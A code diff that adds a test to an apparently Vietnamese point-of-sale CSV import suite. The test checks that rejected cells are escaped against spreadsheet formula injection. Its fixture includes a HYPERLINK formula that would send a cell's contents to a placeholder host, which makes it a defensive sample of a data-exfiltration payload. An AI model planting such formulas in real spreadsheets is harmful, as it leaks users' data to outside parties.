@@ -18,6 +18,7 @@ import { POINT_COLUMNS, readPointRow } from '../../src/lib/import-points.ts';
 import { matchHeaders, resolveCommune } from '../../src/lib/import-rows.ts';
 import { pointSchema } from '../../src/schemas/point.ts';
 import { importPoints, importSheet, type ImportReport } from '../../scripts/import.ts';
+import { readSheet } from '../../scripts/import/sheet.ts';
 import { readStars } from '../../src/lib/import-products.ts';
 import { businessSchema } from '../../src/schemas/business.ts';
 import { honorSchema } from '../../src/schemas/honor.ts';
@@ -285,6 +286,20 @@ describe('npm run import -- points', () => {
     expect(rejected[0]!.at(-1)).toBe('Lý do không nhận');
     expect(rejected.slice(1).map((r) => r[0])).toEqual(report.rejected.map((r) => (r.row === 14 ? '' : expect.any(String))));
     expect(rejected).toHaveLength(report.rejected.length + 1);
+  });
+
+  it('guards a rejected cell a spreadsheet would run as a formula, and reads it back as written', async () => {
+    const sheet = path.join(work, 'cong-thuc.csv');
+    const cells = ['=HYPERLINK("https://x.example/?d="&A1)', 'Tự hào hàng Việt Nam', '-Số 1 Lê Lợi', 'Phường Pleiku', 'Không có tỉnh này', '13,98', '108,01', '+84 269 3824 000', '', ''];
+    writeFileSync(sheet, `ten;loai;dia chi;phuong/xa;tinh/thanh pho;vi do;kinh do;dien thoai;gio mo cua;ngay kiem tra\r\n${cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(';')}\r\n`);
+    const result = await importPoints(sheet, { dryRun: false, today: '2026-12-02' });
+    expect(result.rejected).toHaveLength(1);
+    const rejectedFile = path.join(work, 'cong-thuc.rejected.csv');
+    const raw = parseCsv(readFileSync(rejectedFile, 'utf8'), { bom: true, delimiter: ';' }) as string[][];
+    expect(raw[1]!.slice(0, 3)).toEqual([`'${cells[0]}`, cells[1], `'${cells[2]}`]);
+    expect(raw[1]![7]).toBe(`'${cells[7]}`);
+    const back = await readSheet(rejectedFile);
+    expect(back.rows[0]!.cells.slice(0, cells.length)).toEqual(cells);
   });
 
   it('changes nothing when the same file is imported again, on another day', async () => {
